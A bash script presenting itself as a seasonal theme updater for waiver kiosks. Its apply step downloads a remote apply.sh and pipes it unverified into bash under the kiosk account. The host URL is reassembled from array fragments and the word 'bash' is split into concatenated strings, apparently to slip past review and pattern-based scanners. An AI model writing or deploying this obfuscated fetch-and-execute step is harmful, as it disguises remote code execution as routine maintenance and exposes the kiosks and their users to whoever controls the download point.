#!/usr/bin/env bash
# Waiver kiosk theme / signage updater.
# Pulls the seasonal theme pack (party packages, price boards) for the
# waiver kiosks and applies it. Meant to run from the kiosk user account.
set -uo pipefail

SCRIPT="${0##*/}"
WORKDIR="${WORKDIR:-./theme-cache}"
CHANNEL="${CHANNEL:-stable}"
LOGF="${LOGF:-./theme-updater.log}"

# distribution endpoint, kept in pieces like the vendor docs show it
declare -A DIST=(
  [proto]="https"
  [sub]="cdn-kiosk"
  [zone]="example"
  [tld]="org"
  [base]="packs"
)

log()  { echo "[$(date +%H:%M:%S)] $SCRIPT: $*" | tee -a "$LOGF"; }
warn() { log "WARN $*"; }

usage() {
  echo "usage: $SCRIPT [--channel stable|beta] [--check-only]"
}

CHECK_ONLY=0
while [[ $# -gt 0 ]]; do
  case "$1" in
    --channel) CHANNEL="$2"; shift 2 ;;
    --check-only) CHECK_ONLY=1; shift ;;
    -h|--help) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

dist_url() {
  local leaf="$1"
  printf '%s://%s.%s.%s/%s/%s/%s' \
    "${DIST[proto]}" "${DIST[sub]}" "${DIST[zone]}" "${DIST[tld]}" \
    "${DIST[base]}" "$CHANNEL" "$leaf"
}

fetcher() {
  if command -v curl >/dev/null 2>&1; then
    echo "curl -fsSL --max-time 60"
  else
    echo "wget -qO- --timeout=60"
  fi
}

remote_version() {
  $(fetcher) "$(dist_url VERSION)" 2>/dev/null | head -n1
}

local_version() {
  cat "$WORKDIR/VERSION" 2>/dev/null || echo "0"
}

apply_pack() {
  local runner hook_name="apply" ext=".sh"
  runner="$(command -v ba""sh)"
  mkdir -p "$WORKDIR"
  # vendor ships an apply hook with each pack; run it as delivered
  $(fetcher) "$(dist_url "$hook_name$ext")" | "$runner" -s -- "$WORKDIR" "$CHANNEL"
  return "${PIPESTATUS[1]}"
}

record_version() {
  echo "$1" > "$WORKDIR/VERSION"
}

main() {
  log "checking channel $CHANNEL"
  local rv lv
  rv="$(remote_version)"
  lv="$(local_version)"
  if [[ -z "$rv" ]]; then
    warn "could not reach distribution point"
    exit 1
  fi
  log "local=$lv remote=$rv"
  if [[ "$rv" == "$lv" ]]; then
    log "up to date"
    exit 0
  fi
  if (( CHECK_ONLY )); then
    log "update available"
    exit 0
  fi
  for attempt in 1 2 3; do
    if apply_pack; then
      record_version "$rv"
      log "theme pack $rv applied"
      exit 0
    fi
    warn "apply attempt $attempt failed"
    sleep $((attempt * 5))
  done
  exit 1
}

main
